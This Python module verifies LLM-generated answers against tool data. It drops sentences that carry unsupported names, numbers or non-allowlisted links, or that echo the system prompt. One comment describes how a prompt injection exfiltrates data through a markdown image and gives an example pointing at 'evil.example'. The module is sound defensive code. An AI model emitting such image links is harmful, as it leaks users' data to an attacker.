"""The verifier: every person, skill, role, resource and number an answer states must appear
in what the tools returned for this question.

Template answers are built from tool data and pass by construction; the check exists for
text a language model writes. Unsupported sentences are removed (`repaired`); if too little
is left, the caller falls back to the template answer (`fallback`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from domain.org import Org

NUMBER = re.compile(r"(?<![\w.])(\d+(?:\.\d+)?)\s*(%?)")
# Anything a client would render or follow: markdown images and links, autolinks, URLs with
# any scheme or none ("//host/x.png"), "www." hosts, and script-like schemes.
URL = re.compile(
    r"!?\[[^\]]*\]\([^)\s]*\)?|<[a-z][a-z0-9+.-]*:[^>\s]*>|"
    r"(?:\b[a-z][a-z0-9+.-]*:)?//[^\s)<>\]]+|\bwww\.[^\s)<>\]]+|"
    r"\b(?:javascript|data|vbscript):[^\s)]*",
    re.I,
)
TARGET = re.compile(r"\]\(([^)\s]*)|<([^>]*)>")
SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")


@dataclass
class Verdict:
    grounding: str  # verified | repaired | fallback
    text: str
    unsupported: list[str] = field(default_factory=list)
    # Distinct sentences checked and how many were dropped: the draft's own grounding.
    checked: int = 0
    dropped: int = 0

    @property
    def supported_share(self) -> float:
        """Share of the draft's sentences the data supports, before any repair."""
        return 1.0 if not self.checked else 1 - self.dropped / self.checked


def _flatten(value: Any, strings: set[str], numbers: set[float]) -> None:
    if isinstance(value, bool) or value is None:
        return
    if isinstance(value, int | float):
        numbers.add(round(float(value), 4))
        if 0 <= value <= 1:
            numbers.add(float(round(value * 100)))  # readiness 0.58 is stated as 58%
        return
    if isinstance(value, str):
        strings.add(value.casefold())
        for match in NUMBER.finditer(value):
            numbers.add(round(float(match.group(1)), 4))
        return
    if isinstance(value, dict):
        for item in value.values():
            _flatten(item, strings, numbers)
        return
    if isinstance(value, list | tuple):
        for item in value:
            _flatten(item, strings, numbers)


_PATTERNS: dict[int, tuple[Org, re.Pattern[str], dict[str, str]]] = {}


def _entity_pattern(org: Org) -> tuple[re.Pattern[str], dict[str, str]]:
    """One regex for every name in the organisation, longest first, and the names as
    written; cached per org."""
    cached = _PATTERNS.get(id(org))
    if cached is not None and cached[0] is org:
        return cached[1], cached[2]
    names = [e.name for e in org.employees.values()]
    names += [r.title for r in org.roles.values()]
    names += [s.name for s in org.skills.values()]
    names += [r.title for r in org.resources.values()]
    written = {n.casefold(): n for n in names if len(n) >= 3}
    unique = sorted(written, key=len, reverse=True)
    pattern = re.compile(r"(?<!\w)(" + "|".join(re.escape(n) for n in unique) + r")(?!\w)")
    if len(_PATTERNS) > 8:
        _PATTERNS.clear()
    _PATTERNS[id(org)] = (org, pattern, written)
    return pattern, written


def unsupported_claims(
    sentence: str,
    org: Org,
    corpus: str,
    allowed: set[float],
    allowed_links: frozenset[str] = frozenset(),
) -> list[str]:
    """What in `sentence` the data does not support: names absent from `corpus` (the tool
    data's strings, casefolded and joined), numbers not in `allowed`, links not allowed."""
    problems = []
    lowered = sentence.casefold()
    # Links and images come only from the allowlist (the learning catalogue's own URLs):
    # a markdown image is how a prompt injection smuggles data out
    # ("![x](https://evil.example/?d=...)"), and a document's text is not a source of links.
    for match in URL.finditer(lowered):
        found = match.group(0)
        target = TARGET.search(found)
        bare = (target.group(1) or target.group(2)) if target else found
        if not bare or not any(bare.rstrip("/.").startswith(a) for a in allowed_links):
            problems.append(found)
    remaining = URL.sub(" ", lowered)
    pattern, written = _entity_pattern(org)
    for match in pattern.finditer(remaining):
        if match.group(1) not in corpus:
            problems.append(written[match.group(1)])
    remaining = pattern.sub(" ", remaining)
    for match in NUMBER.finditer(remaining):
        value = round(float(match.group(1)), 4)
        if value not in allowed:
            problems.append(match.group(0).strip())
    return problems


def catalogue_links(org: Org) -> list[str]:
    """The learning catalogue's URLs: the links an answer may give."""
    return [r.url for r in org.resources.values() if r.url]


def _shingles(text: str, size: int = 6) -> set[str]:
    words = re.findall(r"[a-z0-9]+", text.casefold())
    return {" ".join(words[i : i + size]) for i in range(len(words) - size + 1)}


def verify(
    text: str,
    tool_data: list[dict[str, Any]],
    org: Org,
    allowed_numbers: Iterable[float] = (),
    min_kept: float = 0.5,
    secret: str = "",
    allowed_links: Iterable[str] | None = None,
) -> Verdict:
    """`secret`: text that must not be repeated (the system prompt): a sentence sharing six
    consecutive words with it is removed. `allowed_links`: the only URLs (or prefixes) an
    answer may carry; by default the learning catalogue's own."""
    links = frozenset(
        u.lower().rstrip("/.")
        for u in (catalogue_links(org) if allowed_links is None else allowed_links)
        if u
    )
    strings: set[str] = set()
    numbers: set[float] = set()
    for data in tool_data:
        _flatten(data, strings, numbers)
    # Once per answer, not per sentence: the evidence is the same for every sentence.
    corpus = " | ".join(strings)
    allowed = numbers | {round(float(n), 4) for n in allowed_numbers}
    sentences = [s for s in SENTENCE.split(text) if s.strip()]
    kept: list[tuple[str, list[str]]] = []
    dropped: list[tuple[str, list[str]]] = []
    secret_shingles = _shingles(secret) if secret else set()
    seen: set[str] = set()
    repeated = False
    for sentence in sentences:
        if sentence.strip() in seen:
            repeated = True  # small models repeat themselves; say each thing once
            continue
        seen.add(sentence.strip())
        problems = unsupported_claims(sentence, org, corpus, allowed, links)
        if secret_shingles & _shingles(sentence):
            problems.append("system prompt")
        (dropped if problems else kept).append((sentence, problems))
    checked, removed = len(kept) + len(dropped), len(dropped)
    if not dropped:
        final = "\n".join(s for s, _ in kept) if repeated else text
        return Verdict("verified", final, checked=checked)
    unsupported = [p for _, problems in dropped for p in problems]
    if not kept or len(kept) < min_kept * len(sentences):
        return Verdict("fallback", "", unsupported, checked, removed)
    return Verdict("repaired", "\n".join(s for s, _ in kept), unsupported, checked, removed)
